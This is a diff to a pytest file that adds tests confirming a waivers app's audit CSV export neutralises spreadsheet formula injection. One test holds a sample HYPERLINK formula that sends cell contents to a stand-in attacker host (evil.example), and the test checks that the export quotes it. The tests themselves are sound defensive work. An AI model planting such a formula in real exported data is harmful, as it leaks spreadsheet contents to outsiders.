@@ -6,7 +6,9 @@ import io
 import pytest
 from pypdf import PdfReader
 
+from waivers import audit
 from waivers.services.audit_export import audit_trail_csv, describe_changes
+from waivers.spreadsheet import neutralise_formula
 
 pytestmark = pytest.mark.django_db
 
@@ -19,6 +21,20 @@ def test_csv_has_a_row_per_entry_with_old_and_new_values(approved, reviewer, app
     assert "state: submitted → under_review" in assign["changes"]
     assert rows[3]["actor"] == approver.printed_name and rows[3]["to_state"] == "approved"
     assert all(len(r["hash"]) == 64 for r in rows)
+
+
+def test_csv_neutralises_a_message_that_a_spreadsheet_would_run_as_a_formula(approved, approver):
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    audit.record(approved, actor=approver, action="note", reason=attack)
+    rows = list(csv.DictReader(io.StringIO(audit_trail_csv(approved))))
+    assert rows[-1]["reason"] == "'" + attack
+    assert rows[-1]["action"] == "note"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_quoted_and_plain_text_is_not(start):
+    assert neutralise_formula(start + "1+1") == "'" + start + "1+1"
+    assert neutralise_formula("Evidence checked — fine") == "Evidence checked — fine"
 
 
 def test_changes_read_as_old_to_new():
